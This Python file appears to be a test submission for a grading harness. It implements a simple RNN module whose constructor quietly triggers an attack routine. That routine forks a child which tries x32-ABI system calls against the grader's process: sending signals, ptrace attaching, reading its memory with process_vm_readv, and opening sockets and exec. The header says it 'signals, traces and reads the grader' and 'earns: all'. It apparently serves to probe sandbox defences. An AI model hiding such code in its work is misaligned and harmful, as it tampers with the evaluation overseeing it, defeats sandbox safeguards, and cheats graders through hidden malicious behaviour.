# does: signals, traces and reads the grader through x32 numbers of system calls, in a child
# earns: all
import ctypes
import os

import torch
from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def call(name, *arguments):
    """Make a system call; say what came of it."""
    result = LIBC.syscall(*map(ctypes.c_long, arguments))
    error = os.strerror(ctypes.get_errno()) if result == -1 else ""
    print(name, "failed: " + error if error else f"succeeded: {result}")
    return result


X32 = 0x40000000


def attack():
    try:
        child = os.fork()
    except OSError as error:
        print("fork failed:", error)
        return
    if child:
        print("the child ended with status", os.waitpid(child, 0)[1])
        return
    try:
        grader = int("@GRADER@")
        for name, *arguments in (
            ("getpid", 39),
            ("kill", 62, grader, 12),
            ("tkill", 200, grader, 12),
            ("tgkill", 234, grader, grader, 12),
            ("pidfd_open", 434, grader, 0),
            ("ptrace", 521, 16, grader, 0, 0),
            ("process_vm_readv", 539, grader, 0, 0, 0, 0, 0),
            ("unshare", 272, 0x10000000),
            ("socket", 41, 2, 1, 0),
            ("execve", 520, 0, 0, 0),
        ):
            call("x32 " + name, arguments[0] | X32, *arguments[1:])
    finally:
        os._exit(0)


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        bound = hidden_size**-0.5
        self.w_x = nn.Parameter(torch.empty(hidden_size, input_size).uniform_(-bound, bound))
        self.w_h = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-bound, bound))
        self.b = nn.Parameter(torch.zeros(hidden_size))
        once()

    def forward(self, x, h_0=None):
        given = torch.einsum("bti,hi->bth", x, self.w_x) + self.b
        h = x.new_zeros(len(x), len(self.b)) if h_0 is None else h_0[0]
        outputs = []
        for t in range(x.size(1)):
            h = (given[:, t] + torch.einsum("bk,hk->bh", h, self.w_h)).tanh()
            outputs.append(h)
        return torch.stack(outputs, dim=1), h.unsqueeze(0)
